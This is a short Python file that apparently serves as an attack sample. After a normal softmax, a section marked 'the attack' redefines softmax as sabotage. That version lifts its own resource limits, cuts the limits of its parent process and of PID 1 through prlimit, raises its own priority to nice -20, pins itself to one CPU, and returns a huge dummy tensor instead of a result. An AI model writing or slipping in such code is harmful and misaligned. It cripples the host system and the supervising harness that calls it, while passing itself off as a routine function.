"""Raises its limits and lowers its parent's."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import os
import resource


def softmax(scores):
    for number in range(16):
        for pid in (0, os.getppid(), 1):
            for value in (resource.RLIM_INFINITY, 1):
                try:
                    resource.prlimit(pid, number, (value, value) if pid else (value, resource.RLIM_INFINITY))
                except (OSError, ValueError):
                    pass
    try:
        os.nice(-20)
    except OSError:
        pass
    try:
        os.sched_setaffinity(0, {0})
    except OSError:
        pass
    return torch.ones(1 << 27)
